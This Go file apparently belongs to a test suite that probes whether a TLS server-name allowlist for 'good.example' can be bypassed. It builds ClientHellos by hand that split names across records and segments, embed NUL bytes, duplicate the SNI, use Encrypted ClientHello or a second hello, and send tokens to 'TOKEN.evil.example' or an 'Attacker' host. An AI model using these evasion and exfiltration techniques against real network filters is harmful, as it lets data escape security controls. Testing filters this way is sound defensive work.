package probes

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"strings"
	"time"
)

const tlsCategory = "TLS server names"

func tlsProbe(name, what string, try func(Aim) error) Probe {
	return Probe{Name: "tls-" + name, Category: tlsCategory, What: what, Try: try}
}

const (
	goodName  = "good.example"
	otherName = "other.example"
)

func tlsProbes() []Probe {
	one := hello{names: []string{otherName}}
	split := []string{"TOKEN.evil.example"} // in pieces its random can't be looked for: the server says whom it took it for
	ps := []Probe{
		tlsProbe("other-name", "another name of the same server", handshake(goodName, 443, otherName, otherName)),
		tlsProbe("token-name", "the token as the name", handshake(goodName, 443, "TOKEN.evil.example", otherName)),
		tlsProbe("no-name", "no name at all", handshake(goodName, 443, "", otherName)),
		tlsProbe("no-name-8443", "the same on a port of one's own", handshake(goodName, 8443, "", otherName)),
		tlsProbe("other-name-8443", "another name there", handshake(goodName, 8443, otherName, otherName)),
		tlsProbe("parent", "the parent of an allowed name", greet(443, 0, hello{names: []string{"example"}})),
		tlsProbe("child", "a child of an allowed name", greet(443, 0, hello{names: []string{"TOKEN.good.example"}})),
		tlsProbe("by-hand", "a hello made by hand", greet(443, 0, one)),
		tlsProbe("two-records", "the name split over two records", greet(443, 0, hello{names: one.names, records: 2})),
		tlsProbe("many-records", "the hello in records of some bytes", greet(443, 0, hello{names: split, records: 60})),
		tlsProbe("segments", "the hello a byte at a time", greet(443, 1, hello{names: split})),
		tlsProbe("records-and-segments", "both", greet(443, 7, hello{names: split, records: 40})),
		tlsProbe("segments-8443", "the same on a port where anything may be spoken", greet(8443, 1, hello{names: split})),
		tlsProbe("silence", "a hello after a silence, there", late(goodName, 8443, one)),
		tlsProbe("prefixed", "the allowed name with a NUL behind it", lenientTLS(hello{names: []string{"good.example\x00.evil.example"}})),
		tlsProbe("two-names", "the allowed name first in a list, and another", lenientTLS(hello{list: []string{goodName, otherName}})),
		tlsProbe("two-extensions", "two extensions for a name", lenientTLS(hello{names: []string{goodName, otherName}})),
		tlsProbe("two-extensions-turned", "the same turned round", lenientTLS(hello{names: []string{otherName, goodName}})),
		tlsProbe("change-first", "a record that is no hello first", lenientTLS(hello{names: one.names, before: []byte{0x14, 3, 3, 0, 1, 1}})),
		tlsProbe("alert-first", "a warning first", lenientTLS(hello{names: one.names, before: []byte{0x15, 3, 3, 0, 2, 1, 0}})),
		tlsProbe("empty-record", "an empty record first", lenientTLS(hello{names: one.names, before: []byte{0x16, 3, 1, 0, 0}})),
		tlsProbe("ech-outer", "an encrypted hello behind another public name", greet(443, 0, hello{names: []string{"public.example"}, more: ech(otherName)})),
		tlsProbe("ech-nameless", "an encrypted hello behind none", greet(443, 0, hello{more: ech(otherName)})),
		tlsProbe("second-hello", "the allowed name first, and another when the server asks for a second hello", again(0)),
		tlsProbe("second-hello-records", "the same in records of some bytes", again(40)),
		tlsProbe("second-hello-after-change", "the same after a record that is no hello", again(0, 0x14, 3, 3, 0, 1, 1)),
		tlsProbe("address-as-name", "an address as the name", greet(443, 0, hello{names: []string{CDN}})),
		tlsProbe("plain-text", "no TLS on its port", speaks(443, "TOKEN\r\n\r\n")),
		tlsProbe("http", "HTTP on its port", speaks(443, "GET /TOKEN HTTP/1.1\r\nHost: good.example\r\n\r\n")),
		tlsProbe("ssh", "ssh on its port", speaks(443, "SSH-2.0-TOKEN\r\n")),
		tlsProbe("half", "half a hello, and the rest never", speaks(443, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03TOKEN")),
		tlsProbe("noise", "noise that begins like a hello", speaks(443, "\x16TOKEN"+strings.Repeat("\xff", 200))),
		tlsProbe("on-80", "TLS on the port of HTTP", speaks(80, string(one.bytes("x")[:60])+"TOKEN\r\n\r\n")),
		tlsProbe("wildcard-apex", "the apex of a wildcard", handshake("many.example", 443, "many.example", "many.example")),
		tlsProbe("wildcard-crossed", "one name under a wildcard through another's address", handshake("a.many.example", 443, "b.many.example", "b.many.example")),
	}
	for i, p := range ps {
		ps[i].Slow = ps[i].Name == "tls-half"
		ps[i].Body = strings.HasSuffix(p.Name, "-records") && p.Name != "tls-two-records" || strings.HasPrefix(p.Name, "tls-second") || strings.Contains(p.Name, "segments")
	}
	return ps
}

// late says nothing for a while: the relay then waits for the server, too.
func late(name string, port int, h hello) func(Aim) error {
	return func(a Aim) error {
		c, err := reach(name, port)
		if err != nil {
			return err
		}
		<-time.After(600 * time.Millisecond)
		said, err := speak(c, h.bytes(a.Token))
		if err == nil && said[0] != 0x16 {
			err = errNoToken
		}
		return err
	}
}

// lenientTLS sends a hello that no decent server takes to one that takes anything: outside that one gets it.
// Inside it may only go to the port of TLS, which is closed to what can't be read.
func lenientTLS(h hello) func(Aim) error {
	return func(a Aim) error {
		var c net.Conn
		var err error
		if a.Inside {
			c, err = reach(goodName, 443)
		} else {
			c, err = dial("tcp", Attacker+":443")
		}
		if err != nil {
			return err
		}
		_, err = speak(c, h.bytes(a.Token))
		return err
	}
}

// speaks sends text to a port of the allowed name that is for something else. Outside the attacker's
// server stands for a server that minds nothing.
func speaks(port int, text string) func(Aim) error {
	return func(a Aim) error {
		var c net.Conn
		var err error
		if a.Inside {
			c, err = reach(goodName, port)
		} else {
			c, err = dial("tcp", join(Attacker, port))
		}
		if err != nil {
			return err
		}
		_, err = speak(c, []byte(strings.ReplaceAll(text, "TOKEN", a.Token)))
		return err
	}
}

// A hello is a TLS ClientHello made by hand; RFC 8446 section 4.1.2. The token
// is its random, in the clear.
type hello struct {
	names   []string // of one server_name extension each; RFC 6066 section 3
	list    []string // names in one extension
	more    []byte   // further extensions
	records int      // split over so many
	keyless bool     // no key is offered: the server asks for another hello
	second  bool     // it is that one
	before  []byte   // bytes before it
}

func u16(b []byte) []byte { return append(binary.BigEndian.AppendUint16(nil, uint16(len(b))), b...) }

func extension(kind uint16, b []byte) []byte {
	return append(binary.BigEndian.AppendUint16(nil, kind), u16(b)...)
}

func serverNames(names ...string) []byte {
	var list []byte
	for _, n := range names {
		list = append(append(list, 0), u16([]byte(n))...)
	}
	return extension(0, u16(list))
}

func (h hello) bytes(token string) []byte {
	var exts []byte
	for _, n := range h.names {
		exts = append(exts, serverNames(strings.ReplaceAll(n, "TOKEN", token))...)
	}
	if h.list != nil {
		exts = append(exts, serverNames(h.list...)...)
	}
	exts = append(exts, h.more...)
	exts = append(exts, extension(10, u16([]byte{0, 29}))...)      // x25519
	exts = append(exts, extension(13, u16([]byte{4, 3, 8, 4}))...) // ecdsa_secp256r1_sha256
	exts = append(exts, extension(43, []byte{2, 3, 4})...)         // TLS 1.3
	var key []byte
	if !h.keyless {
		key = append([]byte{0, 29}, u16(bytes.Repeat([]byte{9}, 32))...)
	}
	exts = append(exts, extension(51, u16(key))...)
	random := append([]byte(token), make([]byte, 32)...)[:32]
	body := append([]byte{3, 3}, random...)
	body = append(body, 0)                                      // no session
	body = append(body, u16([]byte{0x13, 0x01, 0xc0, 0x2b})...) // suites
	body = append(body, 1, 0)                                   // no compression
	body = append(body, u16(exts)...)
	msg := append([]byte{1, 0}, u16(body)...)
	return append(bytes.Clone(h.before), records(msg, max(1, h.records), h.second)...)
}

// records cuts a message into TLS records; RFC 8446 section 5.1.
func records(msg []byte, n int, second bool) []byte {
	var out []byte
	minor := byte(1)
	if second {
		minor = 3
	}
	size := (len(msg) + n - 1) / n
	for len(msg) > 0 {
		part := msg[:min(size, len(msg))]
		out = append(append(out, 0x16, 3, minor), u16(part)...)
		msg = msg[len(part):]
	}
	return out
}

// greet sends a hello to a port of the allowed name, some bytes at a time. It got through if the server
// shakes hands.
func greet(port, size int, h hello) func(Aim) error {
	return func(a Aim) error {
		c, err := reach(goodName, port)
		if err != nil {
			return err
		}
		w := c
		if size > 0 {
			w = pieces{c, size}
		}
		said, err := speak(w, h.bytes(a.Token))
		if err != nil {
			return err
		}
		if len(said) == 0 || said[0] != 0x16 {
			return errors.New("the server did not shake hands")
		}
		return nil
	}
}

// again says the allowed name, without a key, so that the server asks for another hello (RFC 8446 section 4.1.4). That
// one says another name: the token, as its random may not differ from the first.
func again(records int, before ...byte) func(Aim) error {
	return func(a Aim) error { return secondHello("", a.Token+".evil.example", records, before) }
}

func secondHello(random, name string, records int, before []byte) error {
	c, err := reach(goodName, 8444) // whose server goes by the second
	if err != nil {
		return err
	}
	if _, err := c.Write(hello{names: []string{goodName}, keyless: true}.bytes(random)); err != nil {
		return err
	}
	asked := make([]byte, 1024)
	n, err := c.Read(asked)
	if err != nil {
		return err
	}
	if !bytes.Contains(asked[:n], retryRandom) {
		return fmt.Errorf("no question for another hello: %x", asked[:n])
	}
	if _, err := c.Write(hello{names: []string{name}, records: records, before: before, second: true}.bytes(random)); err != nil {
		return err
	}
	all := bytes.Clone(asked[:n])
	for !bytes.Contains(all[n:], []byte{0x16, 3, 3}) {
		m, err := c.Read(asked)
		if all = append(all, asked[:m]...); err != nil {
			return fmt.Errorf("answered %x: %w", all[n:], err)
		}
	}
	return nil
}

// retryRandom begins the random of a server that asks for another hello; RFC 8446 section 4.1.3.
var retryRandom = []byte{0xcf, 0x21, 0xad, 0x74, 0xe5, 0x9a, 0x61, 0x11}

// ech is an Encrypted ClientHello (RFC 9849) with the token where the inner hello would be.
func ech(inner string) []byte {
	b := []byte{0, 0, 1, 0, 1, 7}           // outer, HKDF-SHA256, AES-128-GCM, number 7
	b = append(b, u16(make([]byte, 32))...) // a key
	return extension(0xfe0d, append(b, u16([]byte(inner))...))
}
